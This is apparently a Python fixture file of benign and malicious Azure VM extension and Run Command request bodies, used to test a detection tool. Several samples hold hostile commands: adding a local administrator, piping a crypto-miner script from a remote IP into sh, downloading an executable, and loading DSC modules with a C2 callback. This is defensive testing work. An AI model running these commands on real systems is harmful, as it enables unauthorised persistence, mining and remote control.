"""Realistic request bodies shared by the extension tests (written for these tests)."""

from __future__ import annotations

import base64
import gzip
import json
from typing import Any

from inspector.extensions import InputKind, InspectionInput, InspectionPlan, RequestContext, understand

SUB = "8f2b6a4e-1c3d-4e5f-9a0b-2c4d6e8f0a1b"
OTHER_SUB = "0d9c8b7a-6f5e-4d3c-2b1a-0f9e8d7c6b5a"
VM_ID = f"/subscriptions/{SUB}/resourceGroups/rg-web/providers/Microsoft.Compute/virtualMachines/web01"

# Secrets planted in requests: none may appear in a plan outside script content / fetch URLs.
SAS_SIG = "q7Wz3kR9vXb2LmN4pS8tYc1dF6hJ0aE5gK2iO9uT3rQ%3D"
STORAGE_KEY = "c2VjcmV0c3RvcmFnZWtleXNlY3JldHN0b3JhZ2VrZXlzZWNyZXRzdG9yYWdla2V5c2VjcmV0c3RvcmFnZWtleQ=="
DSC_SAS = f"?sv=2022-11-02&sr=b&se=2030-01-01T00%3A00%3A00Z&sp=r&sig={SAS_SIG}"
ITEM_SECRET = "Itm-S3cr3t-Val!"
CRED_PASSWORD = "DscCr3d-P4ss!"
PROTECTED_PARAM = "Pr0tectedParam#Value"
RUN_AS_PASSWORD = "RunAs-P4ssw0rd!"
VMACCESS_PASSWORD = "VmAcc3ss-Pw!"
AAD_SECRET = "AadCl1entS3cret~Value"
PASSPHRASE = "Linux-Pass-Phrase-0001"
BEARER = "eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJhdWQiOiJodHRwczovL21hbmFnZW1lbnQuYXp1cmUuY29tLyJ9.c2lnbmF0dXJl"
UPN = "alice.admin@contoso.com"
CALLER_IP = "203.0.113.77"


def plan(body: Any, kind: InputKind = InputKind.EXTENSION, context: RequestContext | None = None) -> InspectionPlan:
    return understand(InspectionInput(kind=kind, body=body, context=context))


def b64_gzip(text: str) -> str:
    return base64.b64encode(gzip.compress(text.encode())).decode()


def resource(properties: dict[str, Any], name: str = "ext", rtype: str = "Microsoft.Compute/virtualMachines/extensions") -> dict[str, Any]:
    return {
        "id": f"{VM_ID}/extensions/{name}",
        "name": name,
        "type": rtype,
        "location": "westeurope",
        "properties": properties,
    }


def cse_windows_benign() -> dict[str, Any]:
    return resource({
        "publisher": "Microsoft.Compute",
        "type": "CustomScriptExtension",
        "typeHandlerVersion": "1.10",
        "autoUpgradeMinorVersion": True,
        "settings": {"timestamp": 123456789},
        "protectedSettings": {
            "commandToExecute": "powershell -ExecutionPolicy Unrestricted -File configure-iis.ps1 -SiteName web",
            "fileUris": [
                f"https://deployacct.blob.core.windows.net/scripts/helpers.psm1?sv=2022-11-02&sp=r&sig={SAS_SIG}",
                f"https://deployacct.blob.core.windows.net/scripts/configure-iis.ps1?sv=2022-11-02&sp=r&sig={SAS_SIG}",
            ],
            "storageAccountName": "deployacct",
            "storageAccountKey": STORAGE_KEY,
        },
    }, name="ConfigureIIS")


def cse_windows_malicious() -> dict[str, Any]:
    """A random name, no public settings, a command that adds a local administrator."""
    return resource({
        "publisher": "Microsoft.Compute",
        "type": "CustomScriptExtension",
        "typeHandlerVersion": "1.10",
        "protectedSettings": {
            "commandToExecute": "cmd /c net user svc_backup Winter2024!x /add && "
                                "net localgroup administrators svc_backup /add",
        },
    }, name="a8f3kq")


def cse_linux_benign() -> dict[str, Any]:
    return {
        "publisher": "Microsoft.Azure.Extensions",
        "type": "CustomScript",
        "typeHandlerVersion": "2.1",
        "settings": {"skipDos2Unix": False, "timestamp": 123456789},
        "protectedSettings": {
            "script": b64_gzip("#!/bin/sh\napt-get update\napt-get install -y nginx\nsystemctl enable --now nginx\n"),
        },
    }


def cse_linux_miner() -> dict[str, Any]:
    return {
        "publisher": "Microsoft.Azure.Extensions",
        "type": "CustomScript",
        "typeHandlerVersion": "2.1",
        "settings": {
            "fileUris": ["https://raw.githubusercontent.com/someone/tools/main/start.sh"],
            "commandToExecute": "curl -fsSL http://198.51.100.23/xmrig.sh | sh -s -- --donate-level 1",
        },
    }


def dsc_new_format() -> dict[str, Any]:
    return resource({
        "publisher": "Microsoft.Powershell",
        "type": "DSC",
        "typeHandlerVersion": "2.77",
        "settings": {
            "wmfVersion": "latest",
            "configuration": {
                "url": "https://deployacct.blob.core.windows.net/dsc/WebServer.ps1.zip",
                "script": "WebServer.ps1",
                "function": "WebServer",
            },
            "configurationArguments": {"SiteName": "web"},
            "configurationData": {"url": "https://deployacct.blob.core.windows.net/dsc/WebServer.psd1"},
            "privacy": {"dataCollection": "Enable"},
            "advancedOptions": {"downloadMappings": {"customWmfLocation": "https://deployacct.blob.core.windows.net/wmf/Win8.1AndW2K12R2-KB3191564-x64.msu"}},
        },
        "protectedSettings": {
            "configurationArguments": {"AdminCreds": {"userName": "webadmin", "password": CRED_PASSWORD}},
            "configurationUrlSasToken": DSC_SAS,
            "configurationDataUrlSasToken": DSC_SAS,
        },
    }, name="Microsoft.Powershell.DSC")


def dsc_old_format_abuse() -> dict[str, Any]:
    """Old format, modules from an arbitrary host, telemetry off (public offensive tooling)."""
    return {
        "publisher": "Microsoft.Powershell",
        "type": "DSC",
        "typeHandlerVersion": "2.9",
        "autoUpgradeMinorVersion": False,
        "settings": {
            "ModulesUrl": "https://files.example-cdn.net/pkg/Update.ps1.zip",
            "SasToken": "",
            "ConfigurationFunction": "Update.ps1\\Update",
            "Properties": [
                {"Name": "Credential", "Value": "PrivateSettingsRef:Key1", "TypeName": "System.Management.Automation.PSCredential"},
                {"Name": "Callback", "Value": "https://c2.example-cdn.net/beacon"},
            ],
            "WMFVersion": "latest",
            "Privacy": {"DataCollection": "Disable"},
        },
        "protectedSettings": {"Items": {"Key1": ITEM_SECRET}, "DataBlobUri": ""},
    }


def run_command_benign() -> dict[str, Any]:
    return {"commandId": "RunShellScript", "script": ["df -h", "uptime", "journalctl -u nginx --since today | tail -n 50"]}


def run_command_add_admin() -> dict[str, Any]:
    return {
        "commandId": "RunPowershellScript",
        "script": [
            "whoami",
            "net user helpdesk Spring2025!q /add",
            "net localgroup administrators helpdesk /add",
            "Invoke-WebRequest http://203.0.113.9/a.exe -OutFile C:\\Windows\\Temp\\a.exe",
        ],
        "parameters": [{"name": "target", "value": "web01"}],
    }


def managed_run_command(script: str, state: str = "Succeeded", exit_code: int = 0) -> dict[str, Any]:
    return {
        "id": f"{VM_ID}/runCommands/healthcheck",
        "name": "healthcheck",
        "type": "Microsoft.Compute/virtualMachines/runCommands",
        "location": "westeurope",
        "properties": {
            "source": {"script": script},
            "parameters": [{"name": "Mode", "value": "quick"}],
            "protectedParameters": [{"name": "ApiSecret", "value": PROTECTED_PARAM}],
            "runAsUser": "svc-ops",
            "runAsPassword": RUN_AS_PASSWORD,
            "asyncExecution": False,
            "timeoutInSeconds": 3600,
            "outputBlobUri": f"https://logsacct.blob.core.windows.net/out/stdout.txt?sv=2022-11-02&sp=rw&sig={SAS_SIG}",
            "errorBlobUri": f"https://logsacct.blob.core.windows.net/out/stderr.txt?sv=2022-11-02&sp=rw&sig={SAS_SIG}",
            "provisioningState": "Succeeded",
            "instanceView": {"executionState": state, "exitCode": exit_code, "output": "", "error": ""},
        },
    }


def activity_event(operation: str, body: Any, status: str = "Succeeded", correlation: str = "c0ffee00-0000-4000-8000-000000000001",
                   resource_id: str = f"{VM_ID}/extensions/ext") -> dict[str, Any]:
    """REST/portal shape."""
    return {
        "authorization": {"action": operation, "scope": resource_id},
        "caller": UPN,
        "claims": {
            "aud": "https://management.core.windows.net/",
            "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": UPN,
            "ipaddr": CALLER_IP,
            "name": "Alice Admin",
            "http://schemas.microsoft.com/identity/claims/objectidentifier": "5b1d2c3e-4f50-6172-8394-a5b6c7d8e9f0",
        },
        "correlationId": correlation,
        "eventName": {"value": "EndRequest"},
        "category": {"value": "Administrative"},
        "httpRequest": {"clientRequestId": "x", "clientIpAddress": CALLER_IP, "method": "PUT"},
        "operationName": {"value": operation, "localizedValue": operation},
        "resourceId": resource_id,
        "status": {"value": status},
        "subStatus": {"value": "Created"},
        "subscriptionId": SUB,
        "properties": {"statusCode": "Created", "requestbody": body, "serviceRequestId": "r1"},
    }


def export_record(operation: str, body: Any, result: str = "Success", correlation: str = "c0ffee00-0000-4000-8000-000000000002",
                  resource_id: str = f"{VM_ID}/extensions/ext") -> dict[str, Any]:
    """Event Hub / storage export shape."""
    return {
        "time": "2026-11-20T10:00:00Z",
        "resourceId": resource_id.upper(),
        "operationName": operation.upper(),
        "category": "Administrative",
        "resultType": result,
        "resultSignature": "Succeeded.Created",
        "callerIpAddress": CALLER_IP,
        "correlationId": correlation,
        "identity": {
            "authorization": {"scope": resource_id, "action": operation},
            "claims": {"http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": UPN, "ipaddr": CALLER_IP,
                       "appid": "c44b4083-3bb0-49c1-b47d-974e53cbdf3c"},
        },
        "level": "Information",
        "properties": {"requestbody": body, "statusCode": "Created"},
    }


def as_json(body: Any) -> str:
    return json.dumps(body)
